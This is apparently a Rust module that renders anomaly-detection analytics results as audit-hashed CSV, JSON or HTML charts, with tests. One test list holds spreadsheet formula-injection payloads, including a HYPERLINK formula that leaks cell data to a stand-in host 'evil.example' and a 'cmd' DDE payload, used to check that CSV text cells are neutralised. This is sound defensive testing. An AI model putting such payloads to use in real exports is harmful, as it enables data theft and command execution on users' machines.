//! A finished job's results, rendered: every series' values with their moving average,
//! direction, z-score and anomaly, and (jobs of the robust detector, see
//! [`crate::domain::trend`]) the baseline each value was judged against and its spread,
//! as CSV (the canonical form whose SHA-256 the audit log keeps), JSON, or one
//! self-contained HTML page with a line chart per series (values, moving average,
//! baseline, anomalies marked and listed with their baseline and z-score; time axis
//! labels in a chosen zone).
//!
//! A job's CSV stays byte for byte what its audited hash was taken over, so a file
//! downloaded then still verifies: its columns and text cells follow the [`CsvFormat`]
//! it completed in, its figures the detector its query recorded (jobs stored before #34
//! keep the z-score one). Jobs since #34 add `baseline` and `spread` after `anomaly`.
//!
//! JSON results carry a `definitions` object and the HTML page ends with a
//! "Definitions" section (what each figure means, its unit and zone; see
//! [`crate::report::definitions`]) when the caller gives them; the CSV never does, as
//! its bytes are what the audit log hashed (the HTTP answer links to them instead).
//!
//! A series is keyed by ids (a team's, an agent's, a skill's); JSON and HTML also name
//! them ([`SeriesNames`], from the roster the platform last listed, the id where no
//! name is known). The CSV keeps ids only: its bytes must still hash the same after a
//! team is renamed.
//!
//! Result rows are read by series, then bucket, and one series at a time is analysed
//! and written, so memory holds one series, never the whole result.

use std::collections::{BTreeMap, HashMap};
use std::fmt::Write as _;

use chrono_tz::Tz;

use futures::TryStreamExt;
use html_escape::encode_quoted_attribute as escape;
use serde_json::json;
use sha2::{Digest, Sha256};

use super::spec::QuerySpec;
use crate::domain::trend::{self, Analysis, Detector, TrendPoint};
use crate::report::{Definitions, Sink};
use crate::store::analytics as stored;
use crate::store::{Store, from_ms};

/// Bytes gathered before they go to the sink.
const CHUNK: usize = 64 * 1024;

/// One series' stored buckets: start (ms) and the values of each metric.
type Buckets = Vec<(i64, Vec<Option<f64>>)>;

/// The output formats of results.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AnalyticsFormat {
    Csv(CsvFormat),
    Json,
    /// Time labels in this zone.
    Html(Tz),
}

/// How a job's CSV is laid out: its columns and how it writes text cells. The audit log
/// holds the SHA-256 of the CSV a job completed with, so a job keeps its format for good
/// (`analytics_jobs.csv_format`): results made before a change still download byte for
/// byte and verify.
///
/// The format says which columns there are; the figures in them come from the job's
/// detector ([`crate::domain::trend::Detector`], in its stored query), which a job also
/// keeps for good. Every job of the robust detector completes in [`CsvFormat::Baselines`]
/// (a wfmd that does not know version 3 refuses its CSV rather than writing other
/// figures); a job of the z-score detector queued before the upgrade and completed after
/// it has empty `baseline` and `spread` cells, as that detector has none.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CsvFormat {
    /// Version 1: text cells as they are (jobs completed before issue #33).
    Plain,
    /// Version 2: text cells go through [`crate::report::text_cell`], so none starts a
    /// spreadsheet formula.
    Neutralised,
    /// Version 3 (issue #34): as version 2, and each row ends with the `baseline` its
    /// value was judged against and the `spread` its z-score counts in.
    Baselines,
}

impl CsvFormat {
    /// The format new jobs complete with.
    pub const CURRENT: CsvFormat = CsvFormat::Baselines;

    /// The number stored with the job.
    pub fn version(self) -> i64 {
        match self {
            CsvFormat::Plain => 1,
            CsvFormat::Neutralised => 2,
            CsvFormat::Baselines => 3,
        }
    }

    /// The format of a stored version; `None` for one this build does not know (a job
    /// completed by a newer wfmd).
    pub fn of_version(version: i64) -> Option<CsvFormat> {
        match version {
            1 => Some(CsvFormat::Plain),
            2 => Some(CsvFormat::Neutralised),
            3 => Some(CsvFormat::Baselines),
            _ => None,
        }
    }

    /// A text cell (a dimension's name or value, a metric), quoted when needed.
    fn text(self, text: &str) -> String {
        match self {
            CsvFormat::Plain => field(text),
            CsvFormat::Neutralised | CsvFormat::Baselines => field(&crate::report::text_cell(text)),
        }
    }

    /// Whether rows end with `baseline` and `spread`.
    fn baselines(self) -> bool {
        self == CsvFormat::Baselines
    }
}

impl AnalyticsFormat {
    pub fn content_type(self) -> &'static str {
        match self {
            AnalyticsFormat::Csv(_) => "text/csv; charset=utf-8",
            AnalyticsFormat::Json => "application/json",
            AnalyticsFormat::Html(_) => "text/html; charset=utf-8",
        }
    }
}

/// A sink that only hashes: the canonical SHA-256 of a result set.
#[derive(Default)]
pub struct HashSink {
    pub hasher: Sha256,
    pub bytes: u64,
}

impl Sink for HashSink {
    async fn send(&mut self, chunk: Vec<u8>) -> std::io::Result<()> {
        self.bytes += chunk.len() as u64;
        self.hasher.update(&chunk);
        Ok(())
    }
}

impl HashSink {
    pub fn hex(self) -> String {
        hex::encode(self.hasher.finalize())
    }
}

/// The names of the ids series are keyed by, per kind of dimension.
#[derive(Debug, Default, Clone)]
pub struct SeriesNames {
    by_kind: HashMap<&'static str, HashMap<String, String>>,
}

impl SeriesNames {
    /// `id` of kind `team`, `agent` or `skill` is called `name`.
    pub fn insert(&mut self, kind: &'static str, id: &str, name: &str) {
        if !name.is_empty() {
            self.by_kind
                .entry(kind)
                .or_default()
                .insert(id.to_owned(), name.to_owned());
        }
    }

    /// The kind of id a dimension holds: wfmd's history says `team` and `agent`, the
    /// platform `group.id` (its teams), `agent.id`, `skill.id`, …
    fn kind(dimension: &str) -> Option<&'static str> {
        let base = dimension.strip_suffix(".id").unwrap_or(dimension);
        match base.to_ascii_lowercase().as_str() {
            "team" | "group" | "teamid" => Some("team"),
            "agent" | "user" | "agentid" => Some("agent"),
            "skill" | "skillid" => Some("skill"),
            _ => None,
        }
    }

    /// The name of `value` of `dimension`, when it is an id with a known name.
    pub fn name(&self, dimension: &str, value: &str) -> Option<&str> {
        self.by_kind
            .get(Self::kind(dimension)?)?
            .get(value)
            .map(String::as_str)
    }
}

fn number(value: Option<f64>) -> String {
    value.map(|v| v.to_string()).unwrap_or_default()
}

/// CSV field quoting: only when the value needs it.
fn field(text: &str) -> String {
    if text.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", text.replace('"', "\"\""))
    } else {
        text.to_owned()
    }
}

/// Writes the results of job `id` (queried with `spec`) to `sink`, JSON and HTML with
/// `definitions` and the series' `names` when given (the CSV ignores both). Returns the
/// number of value rows written.
pub async fn write(
    store: &Store,
    id: &str,
    spec: &QuerySpec,
    format: AnalyticsFormat,
    definitions: Option<&Definitions>,
    names: &SeriesNames,
    sink: &mut impl Sink,
) -> anyhow::Result<u64> {
    let mut out: Vec<u8> = Vec::with_capacity(CHUNK + 4096);
    let settings = spec.trend();
    let robust = settings.detector == Detector::Robust;
    let metrics: Vec<String> = spec.metrics.iter().map(ToString::to_string).collect();
    match format {
        AnalyticsFormat::Csv(csv) => {
            let mut header = vec!["bucket".to_owned()];
            header.extend(spec.dimensions.iter().map(|d| csv.text(d)));
            header.extend(
                [
                    "metric",
                    "value",
                    "moving_average",
                    "direction",
                    "z_score",
                    "anomaly",
                ]
                .map(str::to_owned),
            );
            if csv.baselines() {
                header.extend(["baseline", "spread"].map(str::to_owned));
            }
            out.extend(header.join(",").as_bytes());
            out.extend(b"\n");
        }
        AnalyticsFormat::Json => {
            out.extend(
                format!(
                    "{{\"job_id\":{},\"query\":{},{}\"series\":[",
                    json!(id),
                    serde_json::to_string(spec)?,
                    match definitions {
                        Some(definitions) =>
                            format!("\"definitions\":{},", serde_json::to_string(definitions)?),
                        None => String::new(),
                    }
                )
                .as_bytes(),
            );
        }
        AnalyticsFormat::Html(zone) => {
            out.extend(
                format!(
                    "<!doctype html>\n<html lang=\"en\"><head><meta charset=\"utf-8\">\
                     <title>Analytics job {id}</title><style>{STYLE}</style></head><body>\
                     <h1>Analytics job {id}</h1><p>{} · {} to {} · bucket {} · window {} · \
                     |z| &gt; {}{} · times in {zone}</p>\n",
                    escape(&metrics.join(", ")),
                    zone_time(spec.from, zone),
                    zone_time(spec.to, zone),
                    spec.bucket.as_str(),
                    spec.window,
                    spec.z,
                    if robust {
                        " robust spreads from the seasonal baseline"
                    } else {
                        ""
                    },
                    id = escape(id),
                )
                .as_bytes(),
            );
        }
    }
    let mut rows = stored::results(store.reader(), id);
    let mut written = 0u64;
    let mut first_series = true;
    let mut current: Option<(String, Buckets)> = None;
    loop {
        let row = rows.try_next().await?;
        let same = matches!((&current, &row), (Some((s, _)), Some(r)) if *s == r.series);
        if !same && let Some((series, buckets)) = current.take() {
            let dims: BTreeMap<String, String> = serde_json::from_str(&series)?;
            for (m, metric) in metrics.iter().enumerate() {
                let points: Vec<TrendPoint> = buckets
                    .iter()
                    .map(|(bucket, values)| TrendPoint {
                        at: from_ms(*bucket),
                        value: values.get(m).copied().flatten().unwrap_or(f64::NAN),
                    })
                    .collect();
                let analysis = trend::analyse(&points, &settings);
                match format {
                    AnalyticsFormat::Csv(csv) => {
                        let dim_fields: Vec<String> = spec
                            .dimensions
                            .iter()
                            .map(|d| csv.text(dims.get(d).map_or("", String::as_str)))
                            .collect();
                        for (point, figures) in points.iter().zip(&analysis.points) {
                            let mut line = vec![crate::time::rfc3339(point.at)];
                            line.extend(dim_fields.iter().cloned());
                            line.push(csv.text(metric));
                            line.push(number(point.value.is_finite().then_some(point.value)));
                            line.push(number(figures.moving_average));
                            line.push(
                                figures
                                    .direction
                                    .map(|d| d.as_str())
                                    .unwrap_or("")
                                    .to_owned(),
                            );
                            line.push(number(figures.z_score));
                            line.push(figures.anomaly.map(|a| a.as_str()).unwrap_or("").to_owned());
                            if csv.baselines() {
                                line.push(number(figures.baseline));
                                line.push(number(figures.spread));
                            }
                            out.extend(line.join(",").as_bytes());
                            out.extend(b"\n");
                            written += 1;
                        }
                    }
                    AnalyticsFormat::Json => {
                        let points_json: Vec<_> = points
                            .iter()
                            .zip(&analysis.points)
                            .map(|(p, f)| {
                                json!({
                                    "bucket": crate::time::rfc3339(p.at),
                                    "value": p.value.is_finite().then_some(p.value),
                                    "moving_average": f.moving_average,
                                    "direction": f.direction.map(|d| d.as_str()),
                                    "z_score": f.z_score,
                                    "anomaly": f.anomaly.map(|a| a.as_str()),
                                    "baseline": f.baseline,
                                    "spread": f.spread,
                                })
                            })
                            .collect();
                        let anomalies: Vec<_> = points
                            .iter()
                            .zip(&analysis.points)
                            .filter_map(|(p, f)| {
                                f.anomaly.map(|kind| {
                                    json!({
                                        "bucket": crate::time::rfc3339(p.at),
                                        "value": p.value,
                                        "z_score": f.z_score,
                                        "kind": kind.as_str(),
                                        "baseline": f.baseline,
                                        "spread": f.spread,
                                    })
                                })
                            })
                            .collect();
                        if !first_series {
                            out.push(b',');
                        }
                        first_series = false;
                        written += points.len() as u64;
                        let named: BTreeMap<&str, &str> = dims
                            .iter()
                            .filter_map(|(d, v)| Some((d.as_str(), names.name(d, v)?)))
                            .collect();
                        out.extend(
                            json!({
                                "dimensions": dims,
                                "names": named,
                                "metric": metric,
                                "direction": analysis.direction.map(|d| d.as_str()),
                                "seasonality": analysis.seasonality.as_str(),
                                "points": points_json,
                                "anomalies": anomalies,
                            })
                            .to_string()
                            .as_bytes(),
                        );
                    }
                    AnalyticsFormat::Html(zone) => {
                        let title: Vec<String> = spec
                            .dimensions
                            .iter()
                            .map(|d| {
                                let value = dims.get(d).map_or("", String::as_str);
                                match names.name(d, value) {
                                    Some(name) => format!("{d} {name} ({value})"),
                                    None => format!("{d} {value}"),
                                }
                            })
                            .chain([metric.clone()])
                            .collect();
                        written += points.len() as u64;
                        out.extend(
                            html_series(&title.join(" · "), &points, &analysis, zone).as_bytes(),
                        );
                    }
                }
                if out.len() >= CHUNK {
                    sink.send(std::mem::replace(
                        &mut out,
                        Vec::with_capacity(CHUNK + 4096),
                    ))
                    .await?;
                }
            }
        }
        let Some(row) = row else { break };
        let values: Vec<Option<f64>> = serde_json::from_str(&row.vals)?;
        match &mut current {
            Some((_, buckets)) => buckets.push((row.bucket, values)),
            None => current = Some((row.series, vec![(row.bucket, values)])),
        }
    }
    match format {
        AnalyticsFormat::Json => out.extend(b"]}\n"),
        AnalyticsFormat::Html(_) => {
            if let Some(definitions) = definitions {
                out.extend(definitions.to_html().as_bytes());
            }
            out.extend(b"</body></html>\n");
        }
        AnalyticsFormat::Csv(_) => {}
    }
    if !out.is_empty() {
        sink.send(out).await?;
    }
    Ok(written)
}

const STYLE: &str = "body{font-family:sans-serif;margin:2em;color:#222}\
section{margin-bottom:2.5em}svg{background:#fafafa;border:1px solid #ddd}\
.v{fill:none;stroke:#1f77b4;stroke-width:1.5}.ma{fill:none;stroke:#ff7f0e;stroke-width:1.5;stroke-dasharray:5 3}\
.b{fill:none;stroke:#2ca02c;stroke-width:1.2;stroke-dasharray:2 2}\
.a{fill:#d62728}.ax{stroke:#888}text{font-size:11px;fill:#444}\
table{border-collapse:collapse}td,th{border:1px solid #ccc;padding:2px 8px;text-align:right}\
section.definitions{font-size:13px}section.definitions dt{margin-top:.6em;font-weight:600}\
section.definitions dd{margin:.2em 0 0 1.5em}section.definitions .unit{font-weight:normal;color:#666}";

fn zone_time(at: chrono::DateTime<chrono::Utc>, zone: Tz) -> String {
    at.with_timezone(&zone)
        .format("%Y-%m-%d %H:%M %Z")
        .to_string()
}

/// One series as a `<section>`: an inline SVG line chart of the values (solid), the
/// moving average (dashed) and the baseline (dotted, where there is one), anomalies as
/// red dots, time labels in `zone`, then the anomalies listed with their baseline and
/// z-score.
fn html_series(title: &str, points: &[TrendPoint], analysis: &Analysis, zone: Tz) -> String {
    const W: f64 = 860.0;
    const H: f64 = 260.0;
    const LEFT: f64 = 70.0;
    const RIGHT: f64 = 20.0;
    const TOP: f64 = 15.0;
    const BOTTOM: f64 = 40.0;
    let figures = &analysis.points;
    let seen = points
        .iter()
        .map(|p| p.value)
        .chain(figures.iter().filter_map(|f| f.moving_average))
        .chain(figures.iter().filter_map(|f| f.baseline))
        .filter(|v| v.is_finite());
    let (low, high) = seen.fold((f64::INFINITY, f64::NEG_INFINITY), |(l, h), v| {
        (l.min(v), h.max(v))
    });
    let (low, high) = match (low.is_finite(), high > low) {
        (false, _) => (0.0, 1.0),
        (true, true) => (low, high),
        (true, false) => (low - 1.0, high + 1.0),
    };
    let span = (points.len().max(2) - 1) as f64;
    let x = |i: usize| LEFT + (W - LEFT - RIGHT) * i as f64 / span;
    let y = |v: f64| TOP + (H - TOP - BOTTOM) * (1.0 - (v - low) / (high - low));
    // A gap (no value) breaks the line rather than joining across it.
    let path = |values: &mut dyn Iterator<Item = Option<f64>>| {
        let mut d = String::new();
        let mut pen_down = false;
        for (i, value) in values.enumerate() {
            match value.filter(|v| v.is_finite()) {
                Some(v) => {
                    let _ = write!(
                        d,
                        "{}{:.1},{:.1} ",
                        if pen_down { 'L' } else { 'M' },
                        x(i),
                        y(v)
                    );
                    pen_down = true;
                }
                None => pen_down = false,
            }
        }
        d
    };
    let values = path(&mut points.iter().map(|p| Some(p.value)));
    let average = path(&mut figures.iter().map(|f| f.moving_average));
    let baseline = path(&mut figures.iter().map(|f| f.baseline));
    let has_baseline = !baseline.is_empty();
    let mut svg = format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"{W}\" height=\"{H}\" role=\"img\">\
         <line class=\"ax\" x1=\"{LEFT}\" y1=\"{b}\" x2=\"{r}\" y2=\"{b}\"/>\
         <line class=\"ax\" x1=\"{LEFT}\" y1=\"{TOP}\" x2=\"{LEFT}\" y2=\"{b}\"/>\
         <text x=\"{lx}\" y=\"{ty}\" text-anchor=\"end\">{high}</text>\
         <text x=\"{lx}\" y=\"{b}\" text-anchor=\"end\">{low}</text>\
         <path class=\"v\" d=\"{values}\"/><path class=\"ma\" d=\"{average}\"/>{}",
        if has_baseline {
            format!("<path class=\"b\" d=\"{baseline}\"/>")
        } else {
            String::new()
        },
        b = H - BOTTOM,
        r = W - RIGHT,
        lx = LEFT - 6.0,
        ty = TOP + 4.0,
        high = round(high),
        low = round(low),
    );
    // Time labels: first, middle and last bucket.
    let mut labelled: Vec<usize> = vec![0, points.len() / 2, points.len().saturating_sub(1)];
    labelled.dedup();
    for i in labelled.into_iter().filter(|&i| i < points.len()) {
        let _ = write!(
            svg,
            "<text x=\"{:.1}\" y=\"{}\" text-anchor=\"middle\">{}</text>",
            x(i),
            H - BOTTOM + 16.0,
            zone_time(points[i].at, zone)
        );
    }
    let mut rows = String::new();
    for (i, (point, f)) in points.iter().zip(figures).enumerate() {
        let (Some(kind), Some(z)) = (f.anomaly, f.z_score) else {
            continue;
        };
        let when = zone_time(point.at, zone);
        let expected = f.baseline.map_or_else(|| "-".to_owned(), round);
        let _ = write!(
            svg,
            "<circle class=\"a\" cx=\"{:.1}\" cy=\"{:.1}\" r=\"4\"><title>{when}: {} (baseline {expected}, z = {:.2})</title></circle>",
            x(i),
            y(point.value),
            round(point.value),
            z
        );
        let _ = write!(
            rows,
            "<tr><td>{when}</td><td>{}</td><td>{expected}</td><td>{:.2}</td><td>{}</td></tr>",
            round(point.value),
            z,
            kind.as_str()
        );
    }
    svg.push_str("</svg>");
    let listing = if rows.is_empty() {
        "<p>No anomalies.</p>".to_owned()
    } else {
        format!(
            "<table><tr><th>bucket</th><th>value</th><th>baseline</th><th>z-score</th><th>kind</th></tr>{rows}</table>"
        )
    };
    format!(
        "<section><h2>{}</h2><p>direction: {}{} · <span style=\"color:#1f77b4\">value</span> · \
         <span style=\"color:#ff7f0e\">moving average</span> · {}\
         <span style=\"color:#d62728\">anomaly</span></p>{svg}{listing}</section>\n",
        escape(title),
        analysis.direction.map_or("-", |d| d.as_str()),
        if has_baseline {
            format!(" · compared with: {}", season_label(analysis.seasonality))
        } else {
            String::new()
        },
        if has_baseline {
            "<span style=\"color:#2ca02c\">baseline</span> · "
        } else {
            ""
        },
    )
}

/// What a season's baselines compare a point with, for people.
fn season_label(season: trend::Seasonality) -> &'static str {
    match season {
        trend::Seasonality::Daily => "the same hour on earlier days",
        trend::Seasonality::Weekly => "the same weekday and time",
        trend::Seasonality::None | trend::Seasonality::Auto => "the points right before",
    }
}

/// A figure for a label: at most three decimals, no trailing zeros.
fn round(value: f64) -> String {
    let text = format!("{value:.3}");
    text.trim_end_matches('0').trim_end_matches('.').to_owned()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::trend::{Detector, Seasonality, TrendSettings};
    use crate::engine::analytics::spec::{AnalyticsSource, Bucket};
    use crate::store::analytics::NewResult;
    use crate::store::testing::temp_store;
    use crate::store::to_ms;
    use chrono::{TimeDelta, TimeZone, Utc};

    const DAY_MS: i64 = 86_400_000;

    /// Agent ids a spreadsheet would run as formulas.
    const FORMULA_IDS: [&str; 6] = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "@SUM(1)",
        "-2+3",
        "\tSUM(1)",
        "\r=1+1",
    ];

    #[derive(Default)]
    struct Bytes(Vec<u8>);

    impl Sink for Bytes {
        async fn send(&mut self, chunk: Vec<u8>) -> std::io::Result<()> {
            self.0.extend(chunk);
            Ok(())
        }
    }

    /// Stores job `aq_1` with the query `spec` (as stored: JSON) and `rows`.
    async fn store_job(store: &Store, spec: &str, rows: &[NewResult]) -> QuerySpec {
        let mut tx = store.begin_write().await.unwrap();
        stored::insert_job(&mut tx, "aq_1", "history", spec, "test", 0)
            .await
            .unwrap();
        assert_eq!(
            stored::store_page(&mut tx, "aq_1", rows).await.unwrap(),
            None
        );
        tx.commit().await.unwrap();
        serde_json::from_str(spec).unwrap()
    }

    /// Stores job `aq_1` of `detector`: one bucket of `transitions:sum` per agent of
    /// `ids`, each -2.5 (a negative figure, which must stay a number).
    async fn job_over_agents(store: &Store, ids: &[&str], detector: Detector) -> QuerySpec {
        let from = Utc.with_ymd_and_hms(2026, 11, 2, 0, 0, 0).unwrap();
        let spec = QuerySpec {
            source: AnalyticsSource::History,
            metrics: vec!["transitions:sum".parse().unwrap()],
            dimensions: vec!["agent".into()],
            filters: Vec::new(),
            from,
            to: from + TimeDelta::hours(1),
            bucket: Bucket::Hour,
            window: 3,
            z: 2.0,
            seasonality: Seasonality::None,
            detector,
        };
        let rows: Vec<NewResult> = ids
            .iter()
            .map(|id| NewResult {
                series: json!({ "agent": id }).to_string(),
                bucket: to_ms(from),
                vals: "[-2.5]".into(),
            })
            .collect();
        store_job(store, &serde_json::to_string(&spec).unwrap(), &rows).await
    }

    async fn csv(store: &Store, spec: &QuerySpec, csv: CsvFormat) -> String {
        let mut out = Bytes::default();
        write(
            store,
            "aq_1",
            spec,
            AnalyticsFormat::Csv(csv),
            None,
            &SeriesNames::default(),
            &mut out,
        )
        .await
        .unwrap();
        String::from_utf8(out.0).unwrap()
    }

    #[tokio::test]
    async fn csv_text_cells_are_neutralised_and_figures_stay_numbers() {
        let (store, _dir) = temp_store().await;
        let mut ids = FORMULA_IDS.to_vec();
        ids.push("u_001");
        let spec = job_over_agents(&store, &ids, Detector::Robust).await;
        let text = csv(&store, &spec, CsvFormat::CURRENT).await;
        let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(text.as_bytes())
            .records()
            .map(Result::unwrap)
            .collect();
        assert_eq!(rows.len(), ids.len(), "{text}");
        let agents: Vec<&str> = rows.iter().map(|row| &row[1]).collect();
        for id in FORMULA_IDS {
            assert!(
                agents.contains(&format!("'{id}").as_str()),
                "{id:?} not neutralised: {agents:?}"
            );
        }
        assert!(agents.contains(&"u_001"), "a plain id is unchanged");
        assert!(
            rows.iter().all(|row| &row[3] == "-2.5"),
            "a negative figure stays a number: {text}"
        );
    }

    #[tokio::test]
    async fn json_and_html_results_carry_the_definitions_and_the_hashed_csv_does_not_change() {
        let (store, _dir) = temp_store().await;
        let spec = job_over_agents(&store, &["u_001"], Detector::Robust).await;
        let judging = crate::domain::adherence_rules::Judging::builtin(TimeDelta::minutes(2));
        let zone: Tz = "America/New_York".parse().unwrap();
        let definitions = Definitions::analytics(&judging, Some(zone));
        let render = |format| {
            let (store, spec, definitions) = (&store, &spec, &definitions);
            async move {
                let mut out = Bytes::default();
                write(
                    store,
                    "aq_1",
                    spec,
                    format,
                    Some(definitions),
                    &SeriesNames::default(),
                    &mut out,
                )
                .await
                .unwrap();
                String::from_utf8(out.0).unwrap()
            }
        };
        let json: serde_json::Value =
            serde_json::from_str(&render(AnalyticsFormat::Json).await).unwrap();
        assert_eq!(json["definitions"]["of"], "analytics");
        assert_eq!(json["definitions"]["time_zone"], "America/New_York");
        let adherence = json["definitions"]["terms"]
            .as_array()
            .unwrap()
            .iter()
            .find(|t| t["term"] == "adherence_pct")
            .unwrap();
        assert!(
            adherence["definition"]
                .as_str()
                .unwrap()
                .contains("In-adherence time ÷ scheduled time × 100"),
            "analytics' adherence is defined as it computes it: {adherence}"
        );
        assert_eq!(
            json["series"].as_array().unwrap().len(),
            1,
            "series still follow"
        );

        let html = render(AnalyticsFormat::Html(zone)).await;
        let section = html
            .split("<h2>Definitions</h2>")
            .nth(1)
            .expect("the page has a Definitions section");
        for row in definitions.rows() {
            assert!(section.contains(&*escape(&row.definition)), "{}", row.term);
        }

        assert_eq!(
            render(AnalyticsFormat::Csv(CsvFormat::CURRENT)).await,
            csv(&store, &spec, CsvFormat::CURRENT).await,
            "the CSV is the hashed one, definitions or not"
        );
    }

    #[tokio::test]
    async fn the_plain_format_is_byte_for_byte_the_csv_older_jobs_were_hashed_over() {
        let (store, _dir) = temp_store().await;
        let spec = job_over_agents(&store, &["@SUM(1)", "=1+1,x"], Detector::Zscore).await;
        assert_eq!(
            csv(&store, &spec, CsvFormat::Plain).await,
            "bucket,agent,metric,value,moving_average,direction,z_score,anomaly\n\
             2026-11-02T00:00:00.000Z,\"=1+1,x\",transitions:sum,-2.5,,,,\n\
             2026-11-02T00:00:00.000Z,@SUM(1),transitions:sum,-2.5,,,,\n"
        );
        for version in [1, 2, 3] {
            assert_eq!(CsvFormat::of_version(version).unwrap().version(), version);
        }
        assert_eq!(CsvFormat::of_version(4), None);
    }

    /// A query as wfmd stored it before #34 (no `detector`): five days of
    /// `transitions:sum`, the last a spike.
    const ZSCORE_JOB: &str = r#"{"source":"history","metrics":[{"name":"transitions","aggregation":"sum"}],"dimensions":[],"filters":[],"from":"2026-11-02T00:00:00.000Z","to":"2026-11-07T00:00:00.000Z","bucket":"day","window":4,"z":2.0,"seasonality":"none"}"#;

    async fn zscore_job(store: &Store) -> QuerySpec {
        let from = Utc.with_ymd_and_hms(2026, 11, 2, 0, 0, 0).unwrap();
        let rows: Vec<NewResult> = [10, 12, 10, 12, 30]
            .iter()
            .enumerate()
            .map(|(d, value)| NewResult {
                series: "{}".into(),
                bucket: to_ms(from + TimeDelta::days(d as i64)),
                vals: format!("[{value}]"),
            })
            .collect();
        store_job(store, ZSCORE_JOB, &rows).await
    }

    #[tokio::test]
    async fn a_job_stored_before_the_robust_detector_keeps_its_figures_and_csv() {
        let (store, _dir) = temp_store().await;
        let spec = zscore_job(&store).await;
        assert_eq!(spec.detector, Detector::Zscore);
        // What wfmd wrote for this job before #34: its window of four has mean 11 and
        // σ 1, so the spike's z-score is 19.
        assert_eq!(
            csv(&store, &spec, CsvFormat::Neutralised).await,
            "bucket,metric,value,moving_average,direction,z_score,anomaly\n\
             2026-11-02T00:00:00.000Z,transitions:sum,10,,,,\n\
             2026-11-03T00:00:00.000Z,transitions:sum,12,,,,\n\
             2026-11-04T00:00:00.000Z,transitions:sum,10,,,,\n\
             2026-11-05T00:00:00.000Z,transitions:sum,12,11,,,\n\
             2026-11-06T00:00:00.000Z,transitions:sum,30,16,UP,19,SPIKE\n"
        );
        // Queued before the upgrade and completed after it: the current columns, and no
        // baseline, which that detector does not have.
        let current = csv(&store, &spec, CsvFormat::CURRENT).await;
        assert!(
            current.ends_with("2026-11-06T00:00:00.000Z,transitions:sum,30,16,UP,19,SPIKE,,\n"),
            "{current}"
        );
    }

    #[tokio::test]
    async fn the_current_csv_gives_each_point_its_baseline_and_spread() {
        let (store, _dir) = temp_store().await;
        let from = Utc.with_ymd_and_hms(2026, 11, 2, 0, 0, 0).unwrap();
        let values: Vec<f64> = (0..40)
            .map(|d| {
                if d == 35 {
                    100.0
                } else {
                    10.0 + f64::from(d % 3)
                }
            })
            .collect();
        let rows: Vec<NewResult> = values
            .iter()
            .enumerate()
            .map(|(d, value)| NewResult {
                series: "{}".into(),
                bucket: to_ms(from + TimeDelta::days(d as i64)),
                vals: format!("[{value}]"),
            })
            .collect();
        let spec = QuerySpec {
            source: AnalyticsSource::History,
            metrics: vec!["transitions:sum".parse().unwrap()],
            dimensions: Vec::new(),
            filters: Vec::new(),
            from,
            to: from + TimeDelta::days(40),
            bucket: Bucket::Day,
            window: TrendSettings::DEFAULT_WINDOW,
            z: TrendSettings::DEFAULT_Z,
            seasonality: Seasonality::Auto,
            detector: Detector::Robust,
        };
        let spec = store_job(&store, &serde_json::to_string(&spec).unwrap(), &rows).await;
        let text = csv(&store, &spec, CsvFormat::CURRENT).await;
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        assert_eq!(
            reader.headers().unwrap().iter().collect::<Vec<_>>(),
            [
                "bucket",
                "metric",
                "value",
                "moving_average",
                "direction",
                "z_score",
                "anomaly",
                "baseline",
                "spread"
            ]
        );
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        let flagged: Vec<&csv::StringRecord> =
            rows.iter().filter(|row| !row[6].is_empty()).collect();
        assert_eq!(flagged.len(), 1, "{text}");
        let spike = flagged[0];
        assert_eq!(&spike[2], "100");
        assert_eq!(&spike[6], "SPIKE");
        let baseline: f64 = spike[7].parse().unwrap();
        let spread: f64 = spike[8].parse().unwrap();
        assert!((10.0..=12.0).contains(&baseline), "{text}");
        let z: f64 = spike[5].parse().unwrap();
        assert!(((100.0 - baseline) / spread - z).abs() < 1e-9, "{text}");
    }

    #[test]
    fn html_chart_marks_and_lists_the_spike_with_its_z_score_in_the_chosen_zone() {
        let start = Utc.with_ymd_and_hms(2026, 11, 2, 0, 0, 0).unwrap();
        let points: Vec<TrendPoint> = (0..20)
            .map(|i| TrendPoint {
                at: start + TimeDelta::days(i),
                value: if i == 15 {
                    100.0
                } else {
                    10.0 + (i % 3) as f64
                },
            })
            .collect();
        let settings =
            TrendSettings::checked(7, TrendSettings::DEFAULT_Z, Default::default(), DAY_MS)
                .unwrap();
        let analysis = trend::analyse(&points, &settings);
        let zone: Tz = "Europe/Paris".parse().unwrap();
        let html = html_series("agent <a1> · idle_seconds:sum", &points, &analysis, zone);
        assert_eq!(html.matches("<circle").count(), 1, "{html}");
        let z = analysis.points[15].z_score.unwrap();
        let baseline = round(analysis.points[15].baseline.unwrap());
        assert!(
            html.contains(&format!(
                "<td>2026-11-17 01:00 CET</td><td>100</td><td>{baseline}</td><td>{z:.2}</td><td>SPIKE</td>"
            )),
            "{html}"
        );
        assert!(
            html.contains("class=\"b\" d=\"M"),
            "the baseline is drawn: {html}"
        );
        assert!(
            html.contains("2026-11-02 01:00 CET"),
            "first label in Paris time: {html}"
        );
        assert!(
            html.contains("agent &lt;a1&gt;"),
            "titles are escaped: {html}"
        );
        assert!(
            html.contains("class=\"ma\" d=\"M"),
            "the moving average is drawn: {html}"
        );
    }

    #[test]
    fn html_chart_of_a_flat_series_lists_no_anomalies() {
        let start = Utc.with_ymd_and_hms(2026, 11, 2, 0, 0, 0).unwrap();
        let points: Vec<TrendPoint> = (0..10)
            .map(|i| TrendPoint {
                at: start + TimeDelta::hours(i),
                value: 5.0,
            })
            .collect();
        let settings = TrendSettings::checked(3, 2.0, Default::default(), 3_600_000).unwrap();
        let analysis = trend::analyse(&points, &settings);
        let html = html_series("flat", &points, &analysis, chrono_tz::UTC);
        assert!(html.contains("<p>No anomalies.</p>"));
        assert!(!html.contains("<circle"));
    }
}
